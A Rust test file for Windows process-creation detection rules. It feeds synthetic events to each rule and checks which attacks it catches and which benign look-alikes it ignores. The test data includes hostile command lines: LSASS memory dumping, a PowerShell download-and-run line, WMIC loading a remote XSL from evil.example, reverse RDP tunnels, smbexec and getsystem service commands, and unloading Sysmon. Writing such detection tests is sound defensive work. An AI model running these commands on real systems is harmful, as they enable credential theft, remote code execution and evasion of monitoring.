//! Table tests of the project's process rules (`rules/sigma/`): events each rule must meet,
//! and look-alikes of normal work it must leave alone.

use serde_json::json;

use super::test_support::{has, lacks, windows_event_titles as titles};
use super::*;

/// A Sysmon process creation (event 1).
fn proc(set: &RuleSet, image: &str, cmd: &str, parent: &str, parent_cmd: &str) -> Vec<String> {
    proc_as(set, image, cmd, parent, parent_cmd, "EXAMPLE\\bob")
}

fn proc_as(
    set: &RuleSet,
    image: &str,
    cmd: &str,
    parent: &str,
    parent_cmd: &str,
    user: &str,
) -> Vec<String> {
    let name = image.rsplit('\\').next().unwrap_or(image);
    titles(
        set,
        "Microsoft-Windows-Sysmon",
        "Microsoft-Windows-Sysmon/Operational",
        1,
        &json!({"Image": image, "OriginalFileName": name, "CommandLine": cmd,
               "ParentImage": parent, "ParentCommandLine": parent_cmd, "User": user,
               "CurrentDirectory": "C:\\Windows\\system32\\", "IntegrityLevel": "High"}),
    )
}

/// A Security 4688 process creation (no parent command line, no original file name).
fn proc_4688(set: &RuleSet, image: &str, cmd: &str, parent: &str) -> Vec<String> {
    titles(
        set,
        "Microsoft-Windows-Security-Auditing",
        "Security",
        4688,
        &json!({"NewProcessName": image, "CommandLine": cmd, "ParentProcessName": parent,
               "SubjectUserName": "bob", "SubjectDomainName": "EXAMPLE",
               "TokenElevationType": "%%1937", "MandatoryLabel": "S-1-16-12288"}),
    )
}

/// A System 7045 service installation.
fn service(set: &RuleSet, name: &str, image_path: &str) -> Vec<String> {
    titles(
        set,
        "Service Control Manager",
        "System",
        7045,
        &json!({"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
               "StartType": "demand start", "AccountName": "LocalSystem"}),
    )
}

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";

#[test]
fn lsass_dumps_by_builtin_and_known_tools_are_caught_and_ordinary_dumps_are_not() {
    let set = RuleSet::embedded();
    let rdr = "Process Memory Dumped With The Windows RdrLeakDiag Tool";
    let sql = "Full Process Memory Dump Requested From SQLDumper Outside SQL Server";
    let dev = "Full Memory Dump Written By A .NET Or Visual Studio Dump Utility Run By Hand";
    let named = "Command Line Names LSASS And A Memory Dump File";
    let ppl = "Protected LSASS Dumped Through A PPL Bypass Tool";
    let nano = "Nanodump-Style LSASS Dump Options On A Command Line";
    let known = "Known LSASS Memory Dumping Tool Started";

    let rdr_cmd = "rdrleakdiag.exe /p 712 /o C:\\ProgramData\\x\\ /fullmemdmp /wait 1";
    has(
        &proc_4688(&set, "C:\\Windows\\System32\\rdrleakdiag.exe", rdr_cmd, CMD),
        rdr,
        "rdrleakdiag /fullmemdmp (4688)",
    );
    has(
        &proc(
            &set,
            "C:\\Windows\\System32\\rdrleakdiag.exe",
            "rdrleakdiag /p 712 /o C:\\t /memdmp",
            CMD,
            "cmd.exe",
        ),
        rdr,
        "rdrleakdiag /memdmp",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\rdrleakdiag.exe",
            "rdrleakdiag.exe /?",
            CMD,
            "cmd.exe",
        ),
        rdr,
        "rdrleakdiag help",
    );

    let sqldumper = "C:\\Program Files\\Microsoft SQL Server\\150\\Shared\\SqlDumper.exe";
    has(
        &proc(
            &set,
            sqldumper,
            "sqldumper.exe 712 0 0x01100",
            CMD,
            "cmd.exe",
        ),
        sql,
        "sqldumper full dump by hand",
    );
    lacks(
        &proc(
            &set,
            sqldumper,
            "sqldumper.exe 4242 0 0x01100",
            "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
            "sqlservr.exe -sMSSQLSERVER",
        ),
        sql,
        "SQL Server dumping itself",
    );
    lacks(
        &proc(
            &set,
            sqldumper,
            "sqldumper.exe 4242 0 0x0120",
            CMD,
            "cmd.exe",
        ),
        sql,
        "sqldumper mini dump",
    );

    let createdump =
        "C:\\Program Files\\dotnet\\shared\\Microsoft.NETCore.App\\8.0.1\\createdump.exe";
    has(
        &proc(
            &set,
            createdump,
            "createdump.exe -u -f C:\\ProgramData\\o.bin 712",
            PS,
            "powershell",
        ),
        dev,
        "createdump full by hand",
    );
    lacks(
        &proc(
            &set,
            createdump,
            "createdump.exe -u -f C:\\dumps\\app.dmp 5120",
            "C:\\Program Files\\Microsoft Visual Studio\\2022\\Common7\\IDE\\devenv.exe",
            "devenv.exe",
        ),
        dev,
        "Visual Studio dumping the debuggee",
    );

    has(
        &proc(
            &set,
            "C:\\Users\\Public\\PPLdump64.exe",
            "PPLdump64.exe -v lsass C:\\Users\\Public\\l.dmp",
            CMD,
            "cmd.exe",
        ),
        ppl,
        "PPLdump by name",
    );
    has(
        &proc(
            &set,
            "C:\\Users\\Public\\tool.exe",
            "tool.exe lsass.exe C:\\Windows\\Temp\\out.dmp",
            CMD,
            "cmd.exe",
        ),
        named,
        "lsass and a .dmp path on an unknown tool",
    );
    has(
        &proc(
            &set,
            "C:\\Users\\Public\\n.exe",
            "n.exe --write C:\\Windows\\Temp\\x.bin --valid --fork",
            CMD,
            "cmd.exe",
        ),
        nano,
        "nanodump options",
    );
    has(
        &proc(&set, "C:\\Temp\\Dumpert.exe", "Dumpert.exe", CMD, "cmd.exe"),
        known,
        "Dumpert by name",
    );
    // Look-alikes: WER writing a crash dump, a tool listing lsass, a dump of another process.
    for (image, cmd, case) in [
        (
            "C:\\Windows\\System32\\WerFault.exe",
            "WerFault.exe -u -p 712 -s 184 lsass C:\\ProgramData\\x.dmp",
            "WER",
        ),
        (
            "C:\\Windows\\System32\\tasklist.exe",
            "tasklist /fi \"imagename eq lsass.exe\"",
            "tasklist",
        ),
        (
            "C:\\Tools\\procdump64.exe",
            "procdump64.exe -e -ma app.exe C:\\dumps\\app.dmp",
            "procdump of an app",
        ),
        (
            "C:\\Program Files\\Git\\bin\\git.exe",
            "git push --write-tree --forks",
            "git",
        ),
    ] {
        let got = proc(&set, image, cmd, CMD, "cmd.exe");
        for t in [named, nano, ppl, known, rdr] {
            lacks(&got, t, case);
        }
    }
}

#[test]
fn winrm_session_children_are_remote_shells_and_local_consoles_are_not() {
    let set = RuleSet::embedded();
    let want = "WinRM Remote Session Runs A Shell, LOLBin Or Discovery Command";
    let host = "C:\\Windows\\System32\\wsmprovhost.exe";
    let host_cmd = "C:\\Windows\\system32\\wsmprovhost.exe -Embedding";
    for (image, cmd) in [
        (
            "C:\\Windows\\System32\\net.exe",
            "\"C:\\Windows\\system32\\net.exe\" localgroup administrators",
        ),
        ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
        (CMD, "cmd.exe /c whoami /all"),
        (
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -f http://x/y y",
        ),
    ] {
        has(&proc(&set, image, cmd, host, host_cmd), want, cmd);
    }
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\ipconfig.exe",
            "ipconfig /all",
            CMD,
            "cmd.exe",
        ),
        want,
        "ipconfig from a local console",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\conhost.exe",
            "conhost.exe 0xffffffff -ForceV1",
            host,
            host_cmd,
        ),
        want,
        "the session's console host",
    );
    lacks(
        &proc(
            &set,
            "C:\\Program Files\\App\\app.exe",
            "app.exe --status",
            host,
            host_cmd,
        ),
        want,
        "an installed program run remotely",
    );
}

#[test]
fn dcom_automation_parents_starting_shells_are_lateral_movement_and_desktop_use_is_not() {
    let set = RuleSet::embedded();
    let mmc = "MMC Started Through DCOM Spawns A Shell Or LOLBin";
    let office = "Office Application Started For Automation Spawns A Shell Or LOLBin";
    let explorer = "Explorer Started As A COM Server Spawns A Shell Or Script Host";
    let cradle = "PowerShell Command Line Downloads Content And Runs It";
    let mmc_exe = "C:\\Windows\\System32\\mmc.exe";
    let excel = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
    let ps_in_cmd = "\"C:\\Windows\\System32\\cmd.exe\" /c powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5:8080/a')\"";

    let got = proc(
        &set,
        CMD,
        ps_in_cmd,
        mmc_exe,
        "\"C:\\Windows\\system32\\mmc.exe\" -Embedding",
    );
    has(&got, mmc, "MMC20 ExecuteShellCommand");
    has(&got, cradle, "cradle inside cmd's command line");
    has(
        &proc(
            &set,
            PS,
            "powershell -c calc",
            excel,
            "\"EXCEL.EXE\" /automation -Embedding",
        ),
        office,
        "Excel.Application",
    );
    has(
        &proc(
            &set,
            CMD,
            "cmd.exe /c whoami",
            EXPLORER,
            "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
        ),
        explorer,
        "ShellBrowserWindow",
    );
    // Look-alikes: an admin's console opened from mmc, a user opening Excel and running a
    // batch file, cmd from the desktop, a cmd line that just mentions PowerShell.
    let got = proc(
        &set,
        CMD,
        "cmd.exe",
        mmc_exe,
        "\"C:\\Windows\\system32\\mmc.exe\" C:\\Windows\\system32\\compmgmt.msc",
    );
    lacks(&got, mmc, "console opened from compmgmt");
    let got = proc(
        &set,
        CMD,
        "cmd /c report.bat",
        excel,
        "\"EXCEL.EXE\" \"C:\\Users\\bob\\Documents\\q3.xlsx\"",
    );
    lacks(&got, office, "Excel opened by the user");
    let got = proc(&set, CMD, "cmd.exe", EXPLORER, "C:\\Windows\\Explorer.EXE");
    lacks(&got, explorer, "cmd from the desktop shell");
    let got = proc(
        &set,
        CMD,
        "cmd /c powershell -File C:\\Scripts\\update-help.ps1",
        EXPLORER,
        "C:\\Windows\\Explorer.EXE",
    );
    lacks(&got, cradle, "cmd starting a local PowerShell script");
    let got = proc(
        &set,
        CMD,
        "cmd /c echo Invoke-WebRequest is documented > notes.txt",
        EXPLORER,
        "C:\\Windows\\Explorer.EXE",
    );
    lacks(&got, cradle, "cmd without powershell");
}

#[test]
fn persistence_evasion_and_proxy_execution_command_lines_are_caught_and_admin_work_is_not() {
    let set = RuleSet::embedded();
    let netsh = "C:\\Windows\\System32\\netsh.exe";
    let helper = "Netsh Helper DLL Registered From The Command Line";
    has(
        &proc(
            &set,
            netsh,
            "netsh  add helper C:\\Users\\Public\\nethlp.dll",
            CMD,
            "cmd.exe",
        ),
        helper,
        "netsh add helper",
    );
    lacks(
        &proc(
            &set,
            netsh,
            "netsh interface ip show config",
            CMD,
            "cmd.exe",
        ),
        helper,
        "netsh show",
    );
    lacks(
        &proc(
            &set,
            netsh,
            "netsh advfirewall firewall add rule name=x dir=in action=allow program=C:\\App\\a.dll",
            CMD,
            "cmd.exe",
        ),
        helper,
        "firewall rule",
    );

    let fltmc = "C:\\Windows\\System32\\fltMC.exe";
    let unload = "Sysmon Or Defender Filter Driver Unloaded With fltMC";
    let uninstall = "Sysmon Uninstalled From The Command Line";
    has(
        &proc(&set, fltmc, "fltMC.exe  unload SysmonDrv", CMD, "cmd.exe"),
        unload,
        "fltmc unload SysmonDrv",
    );
    lacks(
        &proc(&set, fltmc, "fltmc filters", CMD, "cmd.exe"),
        unload,
        "fltmc filters",
    );
    lacks(
        &proc(&set, fltmc, "fltmc unload bindflt", CMD, "cmd.exe"),
        unload,
        "unload another filter",
    );
    has(
        &proc(
            &set,
            "C:\\Windows\\Sysmon64.exe",
            "Sysmon64.exe -u force",
            CMD,
            "cmd.exe",
        ),
        uninstall,
        "sysmon -u",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\Sysmon64.exe",
            "Sysmon64.exe -c C:\\cfg\\sysmon.xml",
            CMD,
            "cmd.exe",
        ),
        uninstall,
        "sysmon -c",
    );

    let attrib = "C:\\Windows\\System32\\attrib.exe";
    let hide = "Executable Or Script In A User-Writable Folder Hidden With Attrib";
    has(
        &proc(
            &set,
            attrib,
            "attrib  +h +s C:\\Users\\Public\\Libraries\\svchost.exe",
            CMD,
            "cmd.exe",
        ),
        hide,
        "attrib +h payload",
    );
    lacks(
        &proc(
            &set,
            attrib,
            "attrib +h +s C:\\Users\\bob\\Desktop\\desktop.ini",
            CMD,
            "cmd.exe",
        ),
        hide,
        "desktop.ini",
    );
    lacks(
        &proc(
            &set,
            attrib,
            "attrib -h C:\\Users\\bob\\AppData\\Local\\x.exe",
            CMD,
            "cmd.exe",
        ),
        hide,
        "unhide",
    );
    lacks(
        &proc(
            &set,
            attrib,
            "attrib +r D:\\Builds\\setup.exe",
            CMD,
            "cmd.exe",
        ),
        hide,
        "read-only on a build",
    );

    let sysparent = "Core System Process Is The Parent Of A Shell Or LOLBin";
    let winlogon = "Winlogon Is The Parent Of A Shell Or Script Host";
    has(
        &proc(
            &set,
            CMD,
            "\"C:\\Windows\\system32\\cmd.exe\"",
            "C:\\Windows\\System32\\lsass.exe",
            "C:\\Windows\\system32\\lsass.exe",
        ),
        sysparent,
        "lsass parent",
    );
    has(
        &proc_4688(
            &set,
            PS,
            "powershell -nop",
            "C:\\Windows\\System32\\spoolsv.exe",
        ),
        sysparent,
        "spoolsv parent (4688)",
    );
    has(
        &proc(
            &set,
            CMD,
            "cmd.exe",
            "C:\\Windows\\System32\\winlogon.exe",
            "winlogon.exe",
        ),
        winlogon,
        "winlogon parent",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\userinit.exe",
            "userinit.exe",
            "C:\\Windows\\System32\\winlogon.exe",
            "winlogon.exe",
        ),
        winlogon,
        "userinit",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\WerFault.exe",
            "WerFault.exe -u -p 712",
            "C:\\Windows\\System32\\lsass.exe",
            "lsass.exe",
        ),
        sysparent,
        "WER under lsass",
    );
    lacks(
        &proc(&set, CMD, "cmd.exe", EXPLORER, "explorer.exe"),
        sysparent,
        "cmd from explorer",
    );

    let pcalua = "C:\\Windows\\System32\\pcalua.exe";
    let pca_user =
        "Program Compatibility Assistant Launches A Program From A User-Writable Folder Or Share";
    let pca_any = "Program Compatibility Assistant Used To Launch A Program";
    has(
        &proc_4688(
            &set,
            pcalua,
            "pcalua.exe -a C:\\Users\\Public\\update.exe",
            CMD,
        ),
        pca_user,
        "pcalua user folder",
    );
    has(
        &proc_4688(&set, pcalua, "pcalua.exe -a \\\\fs1\\share\\x.exe", CMD),
        pca_user,
        "pcalua share",
    );
    let got = proc(
        &set,
        pcalua,
        "pcalua.exe -a \"C:\\Program Files (x86)\\Old\\old.exe\"",
        EXPLORER,
        "explorer.exe",
    );
    has(&got, pca_any, "pcalua installed program");
    lacks(&got, pca_user, "pcalua installed program");
    lacks(
        &proc(&set, pcalua, "pcalua.exe", EXPLORER, "explorer.exe"),
        pca_any,
        "pcalua without -a",
    );

    let msxsl = "Msxsl Transforms XML With An XSL Stylesheet";
    let wmic_xsl = "WMIC Output Formatted With A Remote Or Non-Built-In XSL Stylesheet";
    let wmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
    has(
        &proc(
            &set,
            "C:\\Users\\bob\\AppData\\Local\\Temp\\msxsl.exe",
            "msxsl.exe http://x/c.xml http://x/s.xsl",
            CMD,
            "cmd.exe",
        ),
        msxsl,
        "msxsl",
    );
    has(
        &proc(
            &set,
            wmic,
            "wmic  os get /format:\"http://198.51.100.9/payload.xsl\"",
            CMD,
            "cmd.exe",
        ),
        wmic_xsl,
        "wmic remote xsl",
    );
    has(
        &proc(
            &set,
            wmic,
            "wmic process list /format:C:\\Users\\Public\\p.xsl",
            CMD,
            "cmd.exe",
        ),
        wmic_xsl,
        "wmic local custom xsl",
    );
    lacks(
        &proc(
            &set,
            wmic,
            "wmic os get caption /format:list",
            CMD,
            "cmd.exe",
        ),
        wmic_xsl,
        "built-in format",
    );
    lacks(
        &proc(
            &set,
            wmic,
            "wmic qfe list /format:\"%WINDIR%\\System32\\wbem\\en-US\\csv.xsl\"",
            CMD,
            "cmd.exe",
        ),
        wmic_xsl,
        "built-in stylesheet path",
    );

    let fwd = "SSH Client Forwards A Port Through A Tunnel";
    let rdp = "SSH Client Exposes RDP Through A Reverse Port Forward";
    let plink = "C:\\Users\\bob\\AppData\\Local\\Temp\\plink.exe";
    let got = proc(
        &set,
        plink,
        "plink.exe 198.51.100.66 -P 22 -l root -pw x -R 12345:127.0.0.1:3389",
        CMD,
        "cmd.exe",
    );
    has(&got, rdp, "plink -R RDP");
    lacks(&got, fwd, "plink -R RDP");
    has(
        &proc(
            &set,
            "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
            "ssh -D 1080 -N user@203.0.113.5",
            CMD,
            "cmd.exe",
        ),
        fwd,
        "ssh -D",
    );
    for cmd in [
        "ssh -l admin 10.0.0.5",
        "ssh admin@10.0.0.5 -p 2222",
        "plink.exe -ssh -l root -pw x 10.0.0.5",
    ] {
        let got = proc(&set, plink, cmd, CMD, "cmd.exe");
        lacks(&got, fwd, cmd);
        lacks(&got, rdp, cmd);
    }

    let msbuild = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe";
    let mb_path = "MSBuild Builds A Project From A Public, Temporary Or Shared-Data Folder";
    let mb_parent = "MSBuild Started By An Office Application, Script Host Or WMI";
    has(
        &proc(
            &set,
            msbuild,
            "MSBuild.exe C:\\Users\\Public\\build.csproj",
            CMD,
            "cmd.exe",
        ),
        mb_path,
        "msbuild public project",
    );
    has(
        &proc(
            &set,
            msbuild,
            "MSBuild.exe C:\\Users\\bob\\Documents\\x.xml",
            "C:\\Windows\\System32\\wscript.exe",
            "wscript x.js",
        ),
        mb_parent,
        "msbuild from wscript",
    );
    let got = proc(
        &set,
        msbuild,
        "MSBuild.exe C:\\Users\\dev\\source\\repos\\App\\App.sln /t:Build",
        CMD,
        "cmd.exe",
    );
    lacks(&got, mb_path, "developer build");
    lacks(&got, mb_parent, "developer build");
    lacks(
        &proc(
            &set,
            msbuild,
            "MSBuild.exe C:\\Users\\dev\\AppData\\Local\\Temp\\restore.proj",
            "C:\\Program Files\\dotnet\\dotnet.exe",
            "dotnet build",
        ),
        mb_path,
        "dotnet restore project",
    );

    let uac = "Auto-Elevating Windows Binary Is The Parent Of A Shell Or Script Host";
    has(
        &proc(
            &set,
            PS,
            "powershell.exe -nop",
            "C:\\Windows\\System32\\ComputerDefaults.exe",
            "ComputerDefaults.exe",
        ),
        uac,
        "ComputerDefaults",
    );
    has(
        &proc(
            &set,
            CMD,
            "cmd.exe",
            "C:\\Windows\\System32\\fodhelper.exe",
            "fodhelper.exe",
        ),
        uac,
        "fodhelper",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\mmc.exe",
            "mmc.exe eventvwr.msc",
            "C:\\Windows\\System32\\eventvwr.exe",
            "eventvwr.exe",
        ),
        uac,
        "event viewer opening MMC",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\control.exe",
            "control.exe /name Microsoft.BackupAndRestoreCenter",
            "C:\\Windows\\System32\\sdclt.exe",
            "sdclt.exe",
        ),
        uac,
        "sdclt opening control panel",
    );

    let pipe = "Command Interpreter Echoes Into A Local Named Pipe";
    has(
        &proc_as(
            &set,
            CMD,
            "cmd.exe /c echo pxgzke > \\\\.\\pipe\\pxgzke",
            "C:\\Windows\\System32\\services.exe",
            "services.exe",
            "NT AUTHORITY\\SYSTEM",
        ),
        pipe,
        "getsystem echo",
    );
    lacks(
        &proc(
            &set,
            CMD,
            "cmd /c echo done > C:\\logs\\status.txt",
            CMD,
            "cmd.exe",
        ),
        pipe,
        "echo to a file",
    );
    lacks(
        &proc(
            &set,
            CMD,
            "cmd /c type \\\\.\\pipe\\docker_engine",
            CMD,
            "cmd.exe",
        ),
        pipe,
        "reading a pipe without echo",
    );
}

#[test]
fn domain_discovery_and_web_server_recon_are_caught_and_local_lookups_are_not() {
    let set = RuleSet::embedded();
    let net = "C:\\Windows\\System32\\net.exe";
    let users = "Domain User Accounts Listed With Net";
    let groups = "Domain Groups Or Privileged Group Members Listed With Net";
    has(
        &proc(&set, net, "net  user /domain", CMD, "cmd.exe"),
        users,
        "net user /domain",
    );
    has(
        &proc(
            &set,
            net,
            "net group \"Domain Admins\" /domain",
            CMD,
            "cmd.exe",
        ),
        groups,
        "net group domain admins",
    );
    has(
        &proc(
            &set,
            net,
            "net localgroup administrators /domain",
            CMD,
            "cmd.exe",
        ),
        groups,
        "net localgroup /domain",
    );
    let got = proc(&set, net, "net localgroup administrators", CMD, "cmd.exe");
    lacks(&got, groups, "local group");
    lacks(&got, users, "local group");
    lacks(
        &proc(&set, net, "net user bob", CMD, "cmd.exe"),
        users,
        "local user",
    );
    lacks(
        &proc(
            &set,
            net,
            "net user jdoe NewPass1! /domain /add",
            CMD,
            "cmd.exe",
        ),
        users,
        "account creation",
    );

    let web = "Web Server Or Application Server Process Starts A Shell";
    let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
    for child in [
        "C:\\Windows\\System32\\quser.exe",
        "C:\\Windows\\System32\\whoami.exe",
    ] {
        has(
            &proc(&set, child, child, w3wp, "w3wp.exe -ap \"DefaultAppPool\""),
            web,
            child,
        );
    }
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\tasklist.exe",
            "tasklist",
            CMD,
            "cmd.exe",
        ),
        web,
        "tasklist from a console",
    );
    lacks(
        &proc(
            &set,
            "C:\\Windows\\System32\\csc.exe",
            "csc.exe /noconfig @x.cmdline",
            w3wp,
            "w3wp.exe",
        ),
        web,
        "ASP.NET compiling a page",
    );

    let wrapper = "Web Shell Manager Command Wrapper On A Command Line";
    let apppool = "Whoami Run Under An IIS Application Pool Identity";
    let chopper = "cmd.exe /c \"cd /d \"C:\\inetpub\\wwwroot\\\"&whoami&echo [S]&cd&echo [E]\"";
    let got = proc_as(
        &set,
        "C:\\Windows\\System32\\whoami.exe",
        "whoami",
        CMD,
        chopper,
        "IIS APPPOOL\\DefaultAppPool",
    );
    has(&got, wrapper, "whoami under a chopper cmd");
    has(&got, apppool, "whoami as an app pool");
    let got = proc(
        &set,
        "C:\\Windows\\System32\\whoami.exe",
        "whoami /groups",
        CMD,
        "cmd.exe",
    );
    lacks(&got, apppool, "whoami by a user");
    lacks(&got, wrapper, "whoami by a user");
    lacks(
        &proc(
            &set,
            CMD,
            "cmd /c echo [START] & build.bat & echo [END]",
            CMD,
            "cmd.exe",
        ),
        wrapper,
        "build script markers",
    );
}

#[test]
fn remote_execution_services_get_their_own_rules_and_installed_services_do_not() {
    let set = RuleSet::embedded();
    let psexec = "PsExec-Style Remote Execution Service Installed";
    let stub = "Service Installed From A Temporary Or User Folder Or As A Randomly Named Windows-Folder Stub";
    let smbexec =
        "Service Installed That Echoes A Command Into A Batch File With Output To A Local Share";
    let pipe = "Service Installed That Echoes Into A Named Pipe";
    let shell = "Service Installed With A Shell Command As Its Binary";

    for (name, path) in [
        ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        ("PAExec-4242-JUMP01", "%SystemRoot%\\PAExec-4242-JUMP01.exe"),
        ("RemComSvc", "%SystemRoot%\\RemComSvc.exe"),
    ] {
        let got = service(&set, name, path);
        has(&got, psexec, name);
        lacks(&got, stub, name);
    }
    // A random stub name is still the high-level stub rule, not the PsExec one.
    let got = service(&set, "xKqPzTrw", "%SystemRoot%\\xKqPzTrw.exe");
    has(&got, stub, "random stub");
    lacks(&got, psexec, "random stub");

    for path in [
        "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
        "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\wdrSgrnp.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\wdrSgrnp.bat & del %SYSTEMROOT%\\wdrSgrnp.bat",
    ] {
        has(&service(&set, "BTOBTO", path), smbexec, path);
    }
    let got = service(
        &set,
        "pxgzke",
        "cmd.exe /c echo pxgzke > \\\\.\\pipe\\pxgzke",
    );
    has(&got, pipe, "getsystem service");
    lacks(&got, smbexec, "getsystem service");
    let output = "Command Output Redirected Into A Loopback Admin Share";
    let wmiprvse = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    for cmd in [
        "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1558370642.34 2>&1",
        "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1558370642.34 2>&1",
    ] {
        has(
            &proc(&set, CMD, cmd, wmiprvse, "wmiprvse.exe -Embedding"),
            output,
            cmd,
        );
    }
    for cmd in [
        "cmd /c dir \\\\127.0.0.1\\C$\\Windows",
        "cmd /c backup.bat > D:\\logs\\backup.log 2>&1",
    ] {
        lacks(&proc(&set, CMD, cmd, CMD, "cmd.exe"), output, cmd);
    }
    // DEV-0018's shape (a bare cmd.exe service) keeps its rule.
    has(
        &service(&set, "spoolfool", "cmd.exe"),
        shell,
        "bare cmd.exe service",
    );

    for (name, path) in [
        (
            "VendorAgent",
            "\"C:\\Program Files\\Vendor\\Agent\\agent.exe\" -service",
        ),
        ("BackupSvc", "C:\\Program Files\\Backup\\bin\\svc.exe /run"),
        (
            "MSSQLSERVER",
            "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
        ),
    ] {
        let got = service(&set, name, path);
        for t in [psexec, stub, smbexec, pipe] {
            lacks(&got, t, name);
        }
    }
}

/// The loaded rule with this title (level and tags are checked, not only matches).
#[track_caller]
fn rule<'a>(set: &'a RuleSet, title: &str) -> &'a RuleInfo {
    set.rules()
        .find(|r| r.title == title)
        .unwrap_or_else(|| panic!("no rule titled {title:?}"))
}

#[test]
fn wmic_stylesheet_counts_as_built_in_only_when_the_format_argument_is_in_wbem() {
    let set = RuleSet::embedded();
    let xsl = "WMIC Output Formatted With A Remote Or Non-Built-In XSL Stylesheet";
    let wmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
    for cmd in [
        "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" os get /format:\"https://evil.example/payload.xsl\"",
        "C:\\Windows\\System32\\wbem\\wmic.exe process list /format:C:\\Users\\Public\\evil.xsl",
        "wmic os get /format:\"\\\\203.0.113.9\\share\\wbem\\x.xsl\"",
    ] {
        has(&proc(&set, wmic, cmd, EXPLORER, "explorer.exe"), xsl, cmd);
    }
    for cmd in [
        "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" /node:srv01 os get /format:csv",
        "wmic qfe list /format:\"C:\\Windows\\System32\\wbem\\en-US\\htable.xsl\"",
        "C:\\Windows\\System32\\wbem\\WMIC.exe process list brief /format:%SystemRoot%\\System32\\wbem\\csv.xsl",
        // A share-style path that is not the stylesheet: the Security Center namespace.
        "wmic /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get displayName /Format:List",
    ] {
        lacks(&proc(&set, wmic, cmd, CMD, "cmd.exe"), xsl, cmd);
    }
}

#[test]
fn explorer_com_server_children_are_low_and_core_process_rules_are_tagged_by_what_they_see() {
    let set = RuleSet::embedded();
    let explorer = "Explorer Started As A COM Server Spawns A Shell Or Script Host";
    let factory =
        "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding";
    has(
        &proc(
            &set,
            CMD,
            "\"C:\\Windows\\system32\\cmd.exe\"",
            EXPLORER,
            factory,
        ),
        explorer,
        "cmd from a separate folder window",
    );
    assert_eq!(rule(&set, explorer).level.as_deref(), Some("low"));

    let core = "Core System Process Is The Parent Of A Shell Or LOLBin";
    let spoolsv = "C:\\Windows\\System32\\spoolsv.exe";
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    for (image, cmd) in [
        (
            rundll,
            "rundll32.exe C:\\Windows\\system32\\spool\\DRIVERS\\x64\\3\\HPMPW081.DLL,MonitorPrintJobStatus /pjob=2",
        ),
        (
            CMD,
            "cmd.exe /c \"C:\\Program Files\\gs\\gs10.02.1\\bin\\gswin64c.exe\" -sDEVICE=pdfwrite -o out.pdf C:\\Windows\\System32\\spool\\PRINTERS\\00012.SPL",
        ),
        (
            "C:\\Windows\\System32\\net.exe",
            "net start \"Print Monitor Helper\"",
        ),
    ] {
        lacks(&proc(&set, image, cmd, spoolsv, "spoolsv.exe"), core, cmd);
    }
    for (image, cmd) in [
        (rundll, "rundll32.exe"),
        (rundll, "rundll32.exe C:\\Users\\Public\\p.dll,Start"),
        (CMD, "cmd.exe /c whoami > C:\\Users\\Public\\o.txt"),
        (PS, "powershell -nop -enc SQBFAFgA"),
    ] {
        has(&proc(&set, image, cmd, spoolsv, "spoolsv.exe"), core, cmd);
    }
    let tags = &rule(&set, core).tags;
    assert!(tags.iter().any(|t| t == "attack.t1059"), "{tags:?}");
    assert!(
        !tags
            .iter()
            .any(|t| t == "attack.t1134.004" || t == "attack.t1055"),
        "{tags:?}"
    );
    let winlogon = "Winlogon Is The Parent Of A Shell Or Script Host";
    let tags = &rule(&set, winlogon).tags;
    assert!(tags.iter().any(|t| t == "attack.t1546.008"), "{tags:?}");
    assert!(
        !tags
            .iter()
            .any(|t| t == "attack.t1134.004" || t == "attack.t1055"),
        "{tags:?}"
    );
}

#[test]
fn ssh_forwards_are_read_through_flag_clusters_and_only_reverse_rdp_is_high() {
    let set = RuleSet::embedded();
    let fwd = "SSH Client Forwards A Port Through A Tunnel";
    let rdp = "SSH Client Exposes RDP Through A Reverse Port Forward";
    let ssh = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
    let got = proc(
        &set,
        ssh,
        "ssh.exe -NR 2222:127.0.0.1:3389 user@203.0.113.5",
        EXPLORER,
        "explorer.exe",
    );
